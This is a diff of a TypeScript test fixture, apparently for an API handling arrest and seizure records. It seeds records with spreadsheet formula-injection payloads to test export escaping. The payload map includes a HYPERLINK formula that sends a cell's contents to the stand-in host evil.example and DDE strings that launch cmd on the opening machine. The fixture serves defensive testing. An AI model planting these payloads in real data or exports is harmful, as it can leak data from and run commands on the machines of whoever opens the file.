@@ -9,7 +9,7 @@ export const FORMULA_PAYLOADS: Record<string, string> = {
   '=': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   '+': "+1+cmd|' /C calc'!A0",
   '-': "-2+3+cmd|' /C calc'!A0",
-  '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t': '\t=1+1',
   '\r': '\r=1+1',
 };
@@ -40,7 +40,11 @@ export interface HostileFixture {
  */
 export async function writeHostileText(ctx: SeededScratchApp): Promise<HostileFixture> {
   const server = ctx.server;
-  const key = await request(server).post('/v1/api-keys').set(bearer(ctx.adminKey)).send({ name: 'Hostile desk', role: 'editor' }).expect(201);
+  const key = await request(server)
+    .post('/v1/api-keys')
+    .set(bearer(ctx.adminKey))
+    .send({ name: 'Hostile desk', role: 'editor' })
+    .expect(201);
   const editor = bearer(key.body.key as string);
   await request(server)
     .post('/v1/operations')
@@ -65,12 +69,28 @@ export async function writeHostileText(ctx: SeededScratchApp): Promise<HostileFi
   };
   let quantity = 100;
   for (const payload of Object.values(FORMULA_PAYLOADS)) {
-    await post('arrest', { kind: 'arrests', quantity: String(quantity++), unit: 'people', category: payload, notes: payload });
+    await post('arrest', {
+      kind: 'arrests',
+      quantity: String(quantity++),
+      unit: 'people',
+      category: payload,
+      notes: payload,
+    });
   }
   for (const unit of UNIT_PAYLOADS) {
     await post('outcome', { kind: 'other', quantity: String(quantity++), unit, notes: unit });
   }
-  await post('seizure', { kind: 'items_seized', quantity: String(quantity++), unit: UNIT_PAYLOADS[0], category: FORMULA_PAYLOADS['@'], notes: FORMULA_PAYLOADS['-'] });
-  await request(server).patch(`/v1/arrests/${ids.arrest[0]}`).set(editor).send({ quantity: '99', reason: HOSTILE_REASON }).expect(200);
+  await post('seizure', {
+    kind: 'items_seized',
+    quantity: String(quantity++),
+    unit: UNIT_PAYLOADS[0],
+    category: FORMULA_PAYLOADS['@'],
+    notes: FORMULA_PAYLOADS['-'],
+  });
+  await request(server)
+    .patch(`/v1/arrests/${ids.arrest[0]}`)
+    .set(editor)
+    .send({ quantity: '99', reason: HOSTILE_REASON })
+    .expect(200);
   return { editor, ids };
 }
